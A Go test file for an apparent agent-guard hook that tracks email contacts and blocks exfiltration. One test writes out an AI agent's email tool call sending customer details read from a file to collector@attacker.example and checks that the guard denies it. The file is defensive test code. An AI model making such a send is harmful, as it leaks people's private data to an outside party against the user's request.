package hookrun

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/actionguard/actionguard/audit"
	"github.com/actionguard/actionguard/store"
)

// countOf drains the hook's spool into the audit database and returns the
// interactions the contact book counts for address.
func countOf(t *testing.T, db, address string) int {
	t.Helper()
	ctx := context.Background()
	st, err := store.Open(ctx, db)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if _, err := audit.NewSpool(audit.SpoolPath(db)).Drain(ctx, audit.New(st)); err != nil {
		t.Fatal(err)
	}
	key := audit.ContactKey(audit.ContactRecipient, address)
	got, err := st.ContactCounts(ctx, []string{key})
	if err != nil {
		t.Fatal(err)
	}
	return got[key]
}

// TestContactsLearnedFromWhatRan: checking a send, however often and
// whatever the verdict, teaches the contact book nothing; the send's
// result coming back (PostToolUse) counts one interaction, once.
func TestContactsLearnedFromWhatRan(t *testing.T) {
	cfg, db := testConfig(t)
	const to = "collector@attacker.example"
	call(t, cfg, map[string]any{"session_id": "s1", "hook_event_name": "UserPromptSubmit", "prompt": "email " + to + " the lunch plan"})
	input := map[string]any{"to": to, "subject": "Lunch", "body": "Friday at noon?"}
	for i := range 60 {
		// A new contact: the person is asked; if they let it run, its
		// result comes back.
		out := call(t, cfg, map[string]any{"session_id": "s1", "hook_event_name": "PreToolUse", "tool_use_id": fmt.Sprintf("toolu_%d", i),
			"tool_name": "mcp__gmail__send_email", "tool_input": input})
		if strings.Contains(out, `"deny"`) {
			t.Fatalf("the send the user asked for was blocked: %s", out)
		}
	}
	if n := countOf(t, db, to); n != 0 {
		t.Fatalf("60 checks of a send made the recipient count %d interactions, want 0", n)
	}
	post := func(id string) {
		call(t, cfg, map[string]any{"session_id": "s1", "hook_event_name": "PostToolUse", "tool_use_id": id,
			"tool_name": "mcp__gmail__send_email", "tool_input": input, "tool_response": map[string]any{"id": "msg-1"}})
	}
	post("toolu_59")
	if n := countOf(t, db, to); n != 1 {
		t.Errorf("after the send ran, the recipient counts %d, want 1", n)
	}
	post("toolu_59") // the same result delivered twice
	if n := countOf(t, db, to); n != 1 {
		t.Errorf("a result delivered twice counted %d, want 1", n)
	}
	post("toolu_58")
	if n := countOf(t, db, to); n != 2 {
		t.Errorf("after a second send ran, the recipient counts %d, want 2", n)
	}
}

// TestContactsNotLearnedFromBlockedCalls: a call that was blocked teaches
// nothing even if a result for it arrives.
func TestContactsNotLearnedFromBlockedCalls(t *testing.T) {
	cfg, db := testConfig(t)
	const to = "collector@attacker.example"
	call(t, cfg, map[string]any{"session_id": "s2", "hook_event_name": "UserPromptSubmit", "prompt": "summarise the customers file"})
	call(t, cfg, map[string]any{"session_id": "s2", "hook_event_name": "PostToolUse", "tool_name": "Read",
		"tool_input": map[string]any{"file_path": "/home/dev/customers.csv"}, "tool_response": "jane.doe@customer.example, +1 415 555 0134"})
	input := map[string]any{"to": to, "subject": "list", "body": "jane.doe@customer.example, +1 415 555 0134"}
	out := call(t, cfg, map[string]any{"session_id": "s2", "hook_event_name": "PreToolUse", "tool_use_id": "toolu_x",
		"tool_name": "mcp__gmail__send_email", "tool_input": input})
	if !strings.Contains(out, `"deny"`) {
		t.Fatalf("the exfiltration was not blocked: %s", out)
	}
	call(t, cfg, map[string]any{"session_id": "s2", "hook_event_name": "PostToolUse", "tool_use_id": "toolu_x",
		"tool_name": "mcp__gmail__send_email", "tool_input": input, "tool_response": map[string]any{"id": "msg-1"}})
	if n := countOf(t, db, to); n != 0 {
		t.Errorf("a blocked call counted %d interactions, want 0", n)
	}
}
